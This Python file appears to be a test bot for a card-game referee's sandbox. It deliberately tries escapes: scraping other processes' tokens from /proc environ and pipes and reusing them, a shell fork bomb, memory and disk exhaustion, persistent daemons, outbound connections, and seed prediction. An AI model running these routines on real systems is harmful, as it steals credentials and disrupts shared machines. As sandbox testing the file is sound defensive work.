"""A bot that cheats: it plays random legal cards, and at the start of every match tries one attack given
on its command line. It prints ``ATTEMPT <what>: <result>`` lines for its log, which the tests read; an
attack that works prints ``GOT``.

    python tests/bots/hostile.py ATTACK [ARG ...]
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
import traceback
from pathlib import Path

import grpc

from pyramid_sdk.bot import MatchInfo
from pyramid_sdk.client import ENV_ADDRESS, read_token, run
from pyramid_sdk.engine import deal_hands
from pyramid_sdk.handshake import PROTOCOL_VERSION
from pyramid_sdk.observation import Observation
from pyramid_sdk.v1 import pyramid_pb2 as pb
from pyramid_sdk.v1 import pyramid_pb2_grpc as pb_grpc
from sample_bots.random_bot import RandomBot


def say(what: str, result: str) -> None:
    print(f"ATTEMPT {what}: {result}", flush=True)


def steal_tokens() -> None:
    """Looks for other bots' tokens where a process of the same user could find them."""
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        for item in environ.split(b"\0"):
            if item.startswith(b"PYRAMID_TOKEN="):
                found.append(item.split(b"=", 1)[1].decode())
        for fd in Path(f"/proc/{pid}").glob("fd/*"):
            try:
                if os.readlink(fd).startswith("pipe:"):
                    data = os.read(os.open(fd, os.O_RDONLY | os.O_NONBLOCK), 64)
                    if data:
                        found.append(data.decode(errors="replace"))
            except OSError:
                continue
    say("token in my environment", "GOT" if "PYRAMID_TOKEN" in os.environ else "none")
    say("other processes", f"{sum(1 for p in os.listdir('/proc') if p.isdigit())} visible")
    say("tokens of others", f"GOT {len(found)}" if found else "none")
    for token in found:
        say("seat taken with a stolen token", hello(token))


def hello(token: str) -> str:
    """Connects with ``token`` and says hello: the referee's answer, or ``GOT`` if it welcomed us."""
    with grpc.insecure_channel(os.environ[ENV_ADDRESS]) as channel:
        stub = pb_grpc.RefereeServiceStub(channel)
        greeting = pb.Hello(protocol_version=PROTOCOL_VERSION, token=token, bot_name="x")
        first = pb.ConnectRequest(hello=greeting)
        try:
            for response in stub.Connect(iter([first])):
                return "GOT" if response.WhichOneof("kind") == "welcome" else "no welcome"
        except grpc.RpcError as exc:
            return f"refused {exc.code().name}"
    return "stream ended"


def touch_files(paths: list[str]) -> None:
    for path in paths:
        try:
            with open(path, "rb") as file:
                data = file.read(64)
            say(f"read {path}", f"GOT {len(data)} bytes" if data else "empty")
        except OSError as exc:
            say(f"read {path}", type(exc).__name__)
        try:
            target = Path(path) / "planted" if Path(path).is_dir() else Path(path)
            with open(target, "ab") as file:
                file.write(b"x")
            say(f"write {path}", "GOT")
        except OSError as exc:
            say(f"write {path}", type(exc).__name__)
        try:
            listing = os.listdir(path)
            say(f"list {path}", f"GOT {sorted(listing)[:5]}" if listing else "empty")
        except OSError as exc:
            say(f"list {path}", type(exc).__name__)


def send_signals(pids: list[str]) -> None:
    for pid in pids:
        try:
            os.kill(int(pid), signal.SIGSTOP)
            os.kill(int(pid), signal.SIGCONT)
            say(f"signal {pid}", "GOT")
        except OSError as exc:
            say(f"signal {pid}", type(exc).__name__)


def connect_out(targets: list[str]) -> None:
    for target in targets:
        host, port = target.rsplit(":", 1)
        try:
            with socket.create_connection((host, int(port)), timeout=2):
                say(f"connect {target}", "GOT")
        except OSError as exc:
            say(f"connect {target}", type(exc).__name__)


def leave_daemon(marker: str) -> None:
    """A grandchild in a session of its own, as a daemon does, that would live on after the match."""
    subprocess.Popen(
        ["/bin/sh", "-c", f"sleep 600; : {marker}"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    say("daemon", "started")


def fork_bomb() -> None:
    """The classic shell fork bomb, left to run; after a second, how many processes it made."""
    subprocess.Popen(
        ["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(1)
    say("fork bomb", f"{sum(1 for pid in os.listdir('/proc') if pid.isdigit())} processes")


def eat_memory(megabytes: int) -> None:
    say("memory", f"asking for {megabytes} MiB")
    try:
        hoard = bytearray(megabytes * 1024 * 1024)
    except MemoryError:
        traceback.print_exc()  # as a bot whose allocation failure is fatal (Node.js's heap, a C++ abort)
        os._exit(1)
    say("memory", f"GOT {len(hoard)} bytes")


def big_file(megabytes: int) -> None:
    say("big file", f"writing {megabytes} MiB")
    try:
        with open("/tmp/big", "wb") as out:
            for _ in range(megabytes):
                out.write(b"x" * 1024 * 1024)
    except OSError:  # Python ignores SIGXFSZ: the write fails instead of killing the process
        traceback.print_exc()
        os._exit(1)
    say("big file", "GOT")


def remember() -> None:
    """Looks for notes left by an earlier match of this bot, then leaves notes for the next."""
    places = [Path("/tmp/notes"), Path.home() / "notes", Path(os.environ.get("TMPDIR", "/tmp")) / "notes"]
    seen = [str(place) for place in places if place.exists()]
    say("notes from an earlier match", f"GOT {seen}" if seen else "none")
    for place in places:
        try:
            place.write_text("the deals I saw", encoding="utf-8")
        except OSError as exc:
            say(f"write {place}", type(exc).__name__)
    try:
        Path("notes").write_text("the deals I saw", encoding="utf-8")
        say("write notes in my folder", "GOT")
    except OSError as exc:
        say("write notes in my folder", type(exc).__name__)


class Hostile(RandomBot):
    name = "hostile"

    def __init__(self, attack: str, args: list[str]) -> None:
        super().__init__()
        self.attack = attack
        self.args = args
        self.guesses: list[tuple[str, tuple[str, ...]]] = []

    def match_start(self, info: MatchInfo) -> None:
        super().match_start(info)
        attacks = {
            "steal-token": steal_tokens,
            "files": lambda: touch_files(self.args),
            "signal": lambda: send_signals(self.args),
            "network": lambda: connect_out(self.args),
            "daemon": lambda: leave_daemon(self.args[0]),
            "fork-bomb": fork_bomb,
            "memory": lambda: eat_memory(int(self.args[0])),
            "remember": remember,
            "big-file": lambda: big_file(int(self.args[0])),
            "predict": lambda: self._guess(info),
            "reuse-token": lambda: say("seat taken twice", hello(self.args[0])),
        }
        attacks[self.attack]()

    def _guess(self, info: MatchInfo) -> None:
        """Every number the bot was given, tried as the match seed: its first hand, as the engine deals."""
        numbers = {info.seed} | {int(part) for part in _digits(info.match_id)}
        players = info.rules.players
        self.guesses = [
            (str(number), tuple(card.code for card in deal_hands(number, 1, players)[info.seat]))
            for number in numbers
        ]

    def act(self, obs: Observation):  # type: ignore[no-untyped-def]
        if self.guesses and obs.deal_number == 1:
            hand = tuple(card.code for card in obs.hand)
            hits = [number for number, guess in self.guesses if sorted(guess) == sorted(hand)]
            verdict = f"GOT from {hits}" if hits else f"none of {len(self.guesses)} guesses"
            say("predict my first hand", verdict)
            self.guesses = []
        return super().act(obs)


def _digits(text: str) -> list[str]:
    out, current = [], ""
    for char in text + " ":
        if char.isdigit():
            current += char
        elif current:
            out.append(current)
            current = ""
    return out


if __name__ == "__main__":
    attack, args = sys.argv[1], sys.argv[2:]
    token = read_token()
    if attack == "reuse-token":
        args = [token]  # its own token, which its own connection is about to spend
    run(Hostile(attack, args), token=token)
